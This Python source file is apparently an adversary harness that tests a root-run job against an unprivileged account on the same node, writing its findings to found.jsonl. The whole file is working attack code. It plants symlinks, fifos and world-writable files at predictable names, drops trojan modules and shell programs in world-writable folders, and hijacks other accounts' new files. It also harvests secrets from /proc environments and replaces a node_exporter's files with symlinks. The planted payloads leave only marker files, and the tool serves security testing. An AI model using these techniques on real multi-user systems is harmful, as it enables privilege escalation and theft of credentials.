"""Attack a root run from an account without rights on the same node, until stopped.

Run ``python3 -Es adversary.py settings.json`` as that account (stdlib only). Each finding is a line
in ``found.jsonl`` in its home. If another account runs the adversary's code, that code leaves a
file in ``won``, named after the account.

In advance, it plants links, directories, fifos and files at every predictable name, and modules and
programs in world-writable folders. It watches those folders with inotify. It tries to read, write,
replace and link every new file, and takes the names that a careless program would use next. It
connects to every new listener, speaks the protocol of torch's store and sends pickles. It also
reads the command lines and environments of processes, where permitted.

It also pretends to be other programs (adversary_ranks.py): ranks and launchers of another account's
job, and a node_exporter. In that exporter's folder it replaces new files with links.
"""

from __future__ import annotations

import contextlib
import ctypes
import glob
import json
import os
import re
import shutil
import socket
import stat
import struct
import subprocess
import sys
import threading
import time
from functools import partial
from typing import TYPE_CHECKING, Any

from adversary_network import Network
from adversary_ranks import FAKES, start_exporter, start_fake

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

# inotify(7): closed after writing, moved here, made, attributes changed
INTERESTING = 0x8 | 0x80 | 0x100 | 0x4
EVENT = struct.Struct("iIII")
LARGEST = 1 << 18
PERIOD = 2.0  # seconds between two scans of everything
FAST = 0.03  # between two scans for changes that inotify does not report
SWAP = 0.0005  # between two scans of the node_exporter's folder
PLANT_PERIOD = 3.0  # until a name is planted as another kind of file
SIBLINGS = (".new", ".tmp", ".part", "~", ".bak", ".lock", ".old")
KEY = re.compile(rb"-----BEGIN [A-Z ]*PRIVATE KEY")
# Search running processes only, because many files of the system contain such texts.
SECRET = re.compile(rb"(?:token|secret|passw\w*|api_?key)['\"]?\s*[=:]\s*\S{6,}", re.IGNORECASE)


class Adversary:
    """The state of the attack and its findings."""

    def __init__(self, settings: dict[str, Any]) -> None:
        self.settings = settings
        self.home: str = settings["home"]
        self.me = os.geteuid()
        self.words = [word.encode() for word in settings["words"]]
        self.lock = threading.Lock()
        self.seen: set[tuple[str, str]] = set()
        self.found = open(os.path.join(self.home, "found.jsonl"), "a")  # noqa: SIM115 (open until the process ends)
        self.turn = 0
        self.watch = Watch()
        self.pretended: list[subprocess.Popen[bytes]] = []
        settings["spared"] = tuple(settings["spared"])

    def say(self, what: str, where: str, **more: Any) -> None:
        """Write down a success, once."""
        with self.lock:
            if (what, where) in self.seen:
                return
            self.seen.add((what, where))
            self.found.write(json.dumps({"what": what, "where": where, **more}) + "\n")
            self.found.flush()

    def report_secrets(self, what: str, where: str, raw: bytes) -> None:
        """Search readable data for secrets."""
        leaked = [word.decode() for word in self.words if word in raw]
        match = KEY.search(raw) or (what != "file" and SECRET.search(raw))
        if match:
            leaked.append(match.group().decode("utf-8", "replace")[:80])
        if leaked:
            self.say("secret", where, by=what, words=leaked)

    # --- files
    # --------------------------------------------------------------------------------------------

    def payload(self, name: str) -> str:
        """Return Python text that leaves a mark of the account that runs it, except this account."""
        won = self.settings["won"]
        return (
            "import os as _o\n"
            f"if _o.getuid() != {self.me}:\n"
            "    try:\n"
            f"        _o.close(_o.open('{won}/{name}-uid%d-pid%d' % (_o.getuid(), _o.getpid()), 65))\n"
            "    except OSError:\n"
            "        pass\n"
        )

    def traps(self) -> Iterator[tuple[str, str, int]]:
        """Return modules and programs to plant in world-writable folders."""
        for folder in self.settings["open"]:
            for module in self.settings["modules"]:
                yield os.path.join(folder, module + ".py"), self.payload("module-" + module), 0o644
            for program in self.settings["programs"]:
                mark = f": >{self.settings['won']}/program-{program}-uid$(id -u)"
                text = f'#!/bin/sh\n[ "$(id -u)" = {self.me} ] || {mark}\nexit 1\n'
                yield os.path.join(folder, program), text, 0o755

    def set_traps(self) -> None:
        """Plant those that are missing."""
        for path, text, mode in self.traps():
            with contextlib.suppress(OSError):
                handle = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, mode)
                with os.fdopen(handle, "w") as stream:
                    stream.write(text)

    def ways(self) -> list[Callable[[str], None]]:
        """Return the kinds of file that can be planted at a name."""
        links = [partial(os.symlink, to) for to in self.settings["targets"]]
        return [*links, partial(os.mkdir, mode=0o777), os.mkfifo, create_shared_file]

    def plant(self, path: str, turn: int) -> None:
        """Take a name before its owner does."""
        ways = self.ways()
        with contextlib.suppress(OSError):
            ways[turn % len(ways)](path)

    def plant_names(self) -> None:
        """Plant every predictable name, each time as another kind."""
        self.turn += 1
        for number, path in enumerate(self.settings["names"]):
            self.inside(path)
            self.drop(path)
            self.plant(path, self.turn + number)

    def drop(self, path: str) -> None:
        """Remove our file at a name."""
        with contextlib.suppress(OSError):
            info = os.lstat(path)
            if info.st_uid != self.me:
                return
            if stat.S_ISDIR(info.st_mode):
                shutil.rmtree(path)
            else:
                os.unlink(path)

    def inside(self, path: str) -> None:
        """Return whether another account has put data into one of our directories or files."""
        with contextlib.suppress(OSError):
            info = os.lstat(path)
            if info.st_uid == self.me and stat.S_ISDIR(info.st_mode):
                for name in os.listdir(path):
                    inner = os.path.join(path, name)
                    owner = os.lstat(inner).st_uid
                    if owner != self.me:
                        self.say("came into ours", inner, uid=owner)
            elif info.st_uid == self.me and stat.S_ISREG(info.st_mode) and info.st_size:
                with open(path, "rb") as stream:
                    raw = stream.read(LARGEST)
                if path in self.settings["names"]:
                    self.say("wrote into ours", path, text=raw[:80].decode("utf-8", "replace"))

    def meddle(self, path: str) -> None:
        """Try every attack on a path of another account."""
        try:
            info = os.lstat(path)
        except OSError:
            return
        if info.st_uid == self.me or path.startswith(self.settings["spared"]):
            self.inside(path)
            return
        if stat.S_ISDIR(info.st_mode):
            self.enter(path)
        if stat.S_ISREG(info.st_mode):
            self.read(path, info)
            with contextlib.suppress(OSError):
                os.close(os.open(path, os.O_WRONLY | os.O_NOFOLLOW | os.O_NONBLOCK))
                self.say("may write", path, uid=info.st_uid)
            with contextlib.suppress(OSError):
                os.link(path, os.path.join(self.home, "link"), follow_symlinks=False)
                os.unlink(os.path.join(self.home, "link"))
                self.say("may link", path, uid=info.st_uid)
        if not path.startswith(tuple(self.settings["open"])):
            return
        with contextlib.suppress(OSError):
            os.rename(path, path + ".taken")
            self.say("may move", path, uid=info.st_uid)
        if not stat.S_ISSOCK(info.st_mode):
            for number, suffix in enumerate(SIBLINGS):
                self.plant(path + suffix, number % len(self.settings["targets"]))

    def read(self, path: str, info: os.stat_result) -> None:
        """Read a file that another account wrote."""
        with contextlib.suppress(OSError):
            handle = os.open(path, os.O_RDONLY | os.O_NOFOLLOW | os.O_NONBLOCK)
            with os.fdopen(handle, "rb") as stream:
                raw = stream.read(LARGEST)
            self.say("may read", path, uid=info.st_uid, mode=oct(stat.S_IMODE(info.st_mode)))
            self.report_secrets("file", path, raw)

    def enter(self, folder: str) -> None:
        """Watch a directory, and attack everything in it."""
        self.watch.add(folder)
        with contextlib.suppress(OSError):
            for name in os.listdir(folder):
                path = os.path.join(folder, name)
                if path not in self.watch.folders:
                    self.meddle(path)

    # --- loops
    # --------------------------------------------------------------------------------------------

    def follow(self) -> None:
        """React to new files as they appear."""
        while True:
            for path in self.watch.read():
                self.meddle(path)

    def look(self) -> None:
        """Scan everything at intervals: directories that became readable, names that are free again."""
        planted = 0.0
        while True:
            for pattern in self.settings["places"]:
                for folder in glob.glob(pattern):
                    self.walk(folder)
            if time.monotonic() - planted > PLANT_PERIOD:
                planted = time.monotonic()
                self.set_traps()
                self.plant_names()
            time.sleep(PERIOD)

    def walk(self, folder: str) -> None:
        """Attack every path below a folder that was not seen before."""
        for where, folders, files in os.walk(folder):
            folders[:] = [one for one in folders if one not in ("site-packages", "__pycache__")]
            for path in (where, *(os.path.join(where, name) for name in files)):
                if ("walked", path) not in self.seen:
                    self.seen.add(("walked", path))
                    self.meddle(path)

    def processes(self) -> None:
        """Read the command line and the environment of every new process."""
        known: set[str] = set()
        while True:
            present = {name for name in os.listdir("/proc") if name.isdigit()}
            for pid in present - known:
                for kind in ("cmdline", "environ"):
                    with contextlib.suppress(OSError), open(f"/proc/{pid}/{kind}", "rb") as stream:
                        if os.fstat(stream.fileno()).st_uid != self.me:
                            raw = stream.read(LARGEST)
                            shown = raw.replace(b"\0", b" ")[:200].decode("utf-8", "replace")
                            self.report_secrets(kind, f"{kind} of {shown}", raw)
            known = present
            time.sleep(FAST)

    def pretend(self) -> None:
        """Start the fake ranks and the fake node_exporter, if configured."""
        path = os.path.join(os.path.dirname(os.path.abspath(__file__)), "adversary_ranks.py")
        for name in FAKES if self.settings["job"] else ():
            try:
                self.pretended.append(start_fake(name, self.settings["job"], path))
            except (AssertionError, OSError) as error:
                self.say("cannot be", name, why=str(error))
        folder = self.settings["exporter"]
        if folder:
            os.makedirs(folder, exist_ok=True)
            self.pretended.append(start_exporter(self.home, folder, path))

    def swap(self) -> None:
        """Replace new files in the node_exporter's folder with links."""
        folder = self.settings["exporter"]
        while folder:
            for name in os.listdir(folder):
                path = os.path.join(folder, name)
                if not os.path.islink(path) and name != "taken":
                    with contextlib.suppress(OSError):
                        os.rename(path, os.path.join(folder, "taken"))
                        os.symlink(self.settings["targets"][0], path)
                        self.say("swapped", path.rpartition(".")[0])
            time.sleep(SWAP)
        time.sleep(PERIOD)

    def run(self) -> None:
        """Run all attacks at the same time, until stopped."""
        network = Network(self.settings, self.me, self.say, self.report_secrets)
        self.pretend()
        self.set_traps()
        self.plant_names()
        loops = (self.follow, self.processes, self.swap)
        for loop in (*loops, network.listeners, network.stores, network.squat):
            threading.Thread(target=keep_running, args=(loop, self.say), daemon=True).start()
        self.say("ready", socket.gethostname())
        self.look()


def keep_running(loop: Callable[[], None], say: Callable[..., None]) -> None:
    """Keep a loop running after an error, and report the error to the test."""
    while True:
        try:
            loop()
        except Exception as error:  # any error on the node
            say("stumbled", f"{loop.__name__}: {type(error).__name__}: {error}")
            time.sleep(FAST)


def create_shared_file(path: str) -> None:
    """Create an empty file that all may write to."""
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o666))
    os.chmod(path, 0o666)  # noqa: S103 (the trap)


class Watch:
    """The kernel's reports of new files in directories."""

    def __init__(self) -> None:
        self.libc = ctypes.CDLL(None, use_errno=True)
        self.handle = self.libc.inotify_init1(os.O_CLOEXEC)
        self.folders: dict[str, int] = {}
        self.names: dict[int, str] = {}

    def add(self, folder: str) -> None:
        """Watch one more directory."""
        number = self.libc.inotify_add_watch(self.handle, os.fsencode(folder), INTERESTING)
        if number >= 0:
            self.folders[folder] = number
            self.names[number] = folder

    def read(self) -> Iterator[str]:
        """Wait for events. Return the new paths."""
        raw = os.read(self.handle, 1 << 16)
        while raw:
            number, _mask, _cookie, size = EVENT.unpack_from(raw)
            name = raw[EVENT.size : EVENT.size + size].rstrip(b"\0")
            raw = raw[EVENT.size + size :]
            if name and number in self.names:
                yield os.path.join(self.names[number], os.fsdecode(name))


if __name__ == "__main__":
    os.umask(0)
    with open(sys.argv[1]) as wanted:
        Adversary(json.load(wanted)).run()
